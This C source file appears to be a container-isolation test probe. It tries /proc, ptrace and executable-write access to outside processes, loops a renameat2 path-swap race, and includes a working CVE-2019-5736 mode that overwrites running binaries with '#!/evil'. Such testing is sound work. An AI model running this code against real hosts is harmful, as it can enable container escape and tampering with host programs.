/* For the inside of a container: looks for processes that are not of it, as somebody hostile would.
 *
 *   attack        tries every other process but process 1, once: a line for each try,
 *                 "exe RESULT", "fd N RESULT", ...; RESULT is the error, or what was got
 *   attack swap A B   exchanges two names for ever
 *   attack overwrite  keeps a hold of every program that it sees running, and tries to write to it,
 *                     while it runs and afterwards, for ever: "seen FILE", "written FILE"
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void
say (const char *what, const char *result)
{
  printf ("%s %s\n", what, result);
}

/* What a link of /proc/PID leads to: opened, not only read. */
static void
try_link (int process, const char *what, int flags)
{
  char text[512];
  struct stat st;
  int fd = openat (process, what, flags | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0)
    {
      say (what, strerror (errno));
      return;
    }
  char self[64];
  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t length = readlink (self, text, sizeof text - 1);
  text[length > 0 ? length : 0] = '\0';
  printf ("%s opened %s %s\n", what,
          fstat (fd, &st) == 0 && S_ISDIR (st.st_mode) ? "directory" : "file", text);
  close (fd);
}

static void
try_text (int process, const char *what)
{
  char text[4096];
  int fd = openat (process, what, O_RDONLY | O_CLOEXEC);
  ssize_t length = fd < 0 ? -1 : read (fd, text, sizeof text - 1);
  if (length < 0)
    say (what, strerror (errno));
  else
    printf ("%s read %zd %.*s\n", what, length, (int) length, text);
  if (fd >= 0)
    close (fd);
}

static void
try_seize (pid_t pid)
{
  if (ptrace (PTRACE_SEIZE, pid, NULL, NULL) < 0)
    say ("ptrace", strerror (errno));
  else
    {
      say ("ptrace", "seized");
      (void) ptrace (PTRACE_DETACH, pid, NULL, NULL);
    }
}

/* Writing to a running program's file: ETXTBSY, and to a sealed memfd EPERM. */
static void
try_write (int process)
{
  int fd = openat (process, "exe", O_RDWR | O_CLOEXEC);
  if (fd < 0)
    say ("exe-write", strerror (errno));
  else
    say ("exe-write", pwrite (fd, "x", 1, 0) < 0 ? strerror (errno) : "written");
  if (fd >= 0)
    close (fd);
}

static void
try_descriptors (int process)
{
  int fd = openat (process, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *directory = fd < 0 ? NULL : fdopendir (fd);
  struct dirent *entry;
  if (directory == NULL)
    {
      say ("fd", strerror (errno));
      return;
    }
  while ((entry = readdir (directory)) != NULL)
    if (entry->d_name[0] != '.')
      {
        char name[300];
        snprintf (name, sizeof name, "fd/%s", entry->d_name);
        try_link (process, name, O_RDONLY);
      }
  closedir (directory);
}

static void
attack (pid_t pid)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%d", (int) pid);
  int process = open (path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (process < 0)
    return;
  printf ("process %d\n", (int) pid);
  try_link (process, "exe", O_RDONLY);
  try_write (process);
  try_link (process, "mem", O_RDWR);
  try_link (process, "cwd", O_RDONLY);
  try_link (process, "root", O_RDONLY);
  try_text (process, "environ");
  try_text (process, "maps");
  try_descriptors (process);
  try_seize (pid);
  close (process);
}

/* ---- CVE-2019-5736 -----------------------------------------------------------------------------
 */

enum
{
  MOST_PROGRAMS = 64,
};

struct program
{
  int fd; /* O_PATH: it stays, whatever becomes of the process */
  struct stat file;
  char name[256];
  int written;
};

static void
keep (struct program *programs, size_t *count, int fd)
{
  struct program *program = &programs[*count];
  char self[64];
  if (*count == MOST_PROGRAMS || fstat (fd, &program->file) < 0)
    {
      close (fd);
      return;
    }
  for (size_t i = 0; i < *count; i++)
    if (programs[i].file.st_ino == program->file.st_ino
        && programs[i].file.st_dev == program->file.st_dev)
      {
        close (fd);
        return;
      }
  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t length = readlink (self, program->name, sizeof program->name - 1);
  program->name[length > 0 ? length : 0] = '\0';
  program->fd = fd;
  program->written = 0;
  (*count)++;
  say ("seen", program->name);
}

static void
overwrite (struct program *program)
{
  char self[64];
  snprintf (self, sizeof self, "/proc/self/fd/%d", program->fd);
  int fd = program->written ? -1 : open (self, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return;
  if (pwrite (fd, "#!/evil\n", 8, 0) > 0)
    {
      program->written = 1;
      say ("written", program->name);
    }
  close (fd);
}

static int
overwrite_all (void)
{
  static struct program programs[MOST_PROGRAMS];
  size_t count = 0;
  setvbuf (stdout, NULL, _IOLBF, 0);
  for (;;)
    {
      DIR *directory = opendir ("/proc");
      struct dirent *entry;
      while (directory != NULL && (entry = readdir (directory)) != NULL)
        {
          char path[300];
          pid_t pid = (pid_t) strtol (entry->d_name, NULL, 10);
          snprintf (path, sizeof path, "/proc/%s/exe", entry->d_name);
          int fd = pid > 1 && pid != getpid () ? open (path, O_PATH | O_CLOEXEC) : -1;
          if (fd >= 0)
            keep (programs, &count, fd);
        }
      if (directory == NULL)
        return 1;
      closedir (directory);
      for (size_t i = 0; i < count; i++)
        overwrite (&programs[i]);
    }
}

static int
attack_all (void)
{
  DIR *directory = opendir ("/proc");
  struct dirent *entry;
  while (directory != NULL && (entry = readdir (directory)) != NULL)
    {
      pid_t pid = (pid_t) strtol (entry->d_name, NULL, 10);
      if (pid > 1 && pid != getpid () && pid != getppid ())
        attack (pid);
    }
  if (directory != NULL)
    closedir (directory);
  return directory == NULL;
}

int
main (int argc, char **argv)
{
  if (argc == 1)
    return attack_all ();
  if (argc == 2 && strcmp (argv[1], "overwrite") == 0)
    return overwrite_all ();
  if (argc != 4 || strcmp (argv[1], "swap") != 0)
    return 2;
  for (;;)
    if (syscall (SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */) < 0)
      return 1;
}
